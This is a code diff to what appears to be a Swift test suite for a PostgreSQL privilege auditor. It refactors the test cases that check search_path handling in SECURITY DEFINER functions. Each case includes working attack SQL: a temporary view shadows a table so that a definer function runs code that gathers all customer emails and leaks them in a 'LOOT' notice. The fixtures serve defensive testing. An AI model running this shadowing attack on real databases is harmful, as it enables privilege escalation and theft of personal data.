@@ -48,6 +48,28 @@ struct CapabilityRoad: Sendable, CustomTestStringConvertible {
         GRANT SELECT ON queue TO PUBLIC;
         """
 
+    /// A plpgsql definer reading `queue` unqualified with `search_path` pinned to `path`, and the
+    /// temporary view that would shadow it.
+    static func pinned(_ name: String, path: String, cause: String?, works: Bool) -> CapabilityRoad {
+        CapabilityRoad(
+            name: name,
+            setup: """
+                CREATE ROLE reporting NOLOGIN;
+                GRANT SELECT ON public.customers TO reporting;
+                CREATE FUNCTION public.queue_length() RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER SET search_path = \(path)
+                  AS $b$ BEGIN RETURN (SELECT count(*) FROM queue); END $b$;
+                ALTER FUNCTION public.queue_length() OWNER TO reporting;
+                """,
+            attack: """
+                CREATE FUNCTION pg_temp.evil() RETURNS SETOF int LANGUAGE plpgsql AS $e$
+                DECLARE v text; BEGIN SELECT string_agg(email, ',') INTO v FROM public.customers; RAISE NOTICE 'LOOT %', v; RETURN NEXT 1; END $e$;
+                CREATE TEMP VIEW queue AS SELECT * FROM pg_temp.evil() AS x(id);
+                GRANT SELECT ON queue TO PUBLIC;
+                SELECT public.queue_length();
+                """,
+            capability: "definer_code", cause: cause, expectAttackWorks: works)
+    }
+
     static let all: [CapabilityRoad] = [
         CapabilityRoad(
             name: "ADMIN OPTION alone (PostgreSQL 16+): grants itself the role",
@@ -98,40 +120,10 @@ struct CapabilityRoad: Sendable, CustomTestStringConvertible {
                 """,
             attack: shadowQueue + "SELECT public.queue_length(); SET ROLE pii_readers; SELECT email FROM public.customers;",
             capability: "definer_code", cause: "EXECUTE public.queue_length() (SECURITY DEFINER, search_path not pinned"),
-        CapabilityRoad(
-            name: "search_path pinned without pg_temp last: temporary relations still come first",
-            setup: """
-                CREATE ROLE reporting NOLOGIN;
-                GRANT SELECT ON public.customers TO reporting;
-                CREATE FUNCTION public.queue_length() RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER SET search_path = public
-                  AS $b$ BEGIN RETURN (SELECT count(*) FROM queue); END $b$;
-                ALTER FUNCTION public.queue_length() OWNER TO reporting;
-                """,
-            attack: """
-                CREATE FUNCTION pg_temp.evil() RETURNS SETOF int LANGUAGE plpgsql AS $e$
-                DECLARE v text; BEGIN SELECT string_agg(email, ',') INTO v FROM public.customers; RAISE NOTICE 'LOOT %', v; RETURN NEXT 1; END $e$;
-                CREATE TEMP VIEW queue AS SELECT * FROM pg_temp.evil() AS x(id);
-                GRANT SELECT ON queue TO PUBLIC;
-                SELECT public.queue_length();
-                """,
-            capability: "definer_code", cause: "search_path not pinned"),
-        CapabilityRoad(
-            name: "search_path pinned with pg_temp last: no road (the attack fails, the audit is silent)",
-            setup: """
-                CREATE ROLE reporting NOLOGIN;
-                GRANT SELECT ON public.customers TO reporting;
-                CREATE FUNCTION public.queue_length() RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp
-                  AS $b$ BEGIN RETURN (SELECT count(*) FROM queue); END $b$;
-                ALTER FUNCTION public.queue_length() OWNER TO reporting;
-                """,
-            attack: """
-                CREATE FUNCTION pg_temp.evil() RETURNS SETOF int LANGUAGE plpgsql AS $e$
-                DECLARE v text; BEGIN SELECT string_agg(email, ',') INTO v FROM public.customers; RAISE NOTICE 'LOOT %', v; RETURN NEXT 1; END $e$;
-                CREATE TEMP VIEW queue AS SELECT * FROM pg_temp.evil() AS x(id);
-                GRANT SELECT ON queue TO PUBLIC;
-                SELECT public.queue_length();
-                """,
-            capability: "definer_code", cause: nil, expectAttackWorks: false),
+        pinned(
+            "search_path pinned without pg_temp last: temporary relations still come first", path: "public",
+            cause: "search_path not pinned", works: true),
+        pinned("search_path pinned with pg_temp last: no road (the attack fails, the audit is silent)", path: "public, pg_temp", cause: nil, works: false),
         CapabilityRoad(
             name: "A definer trigger function runs for every writer, EXECUTE revoked or not",
             setup: """
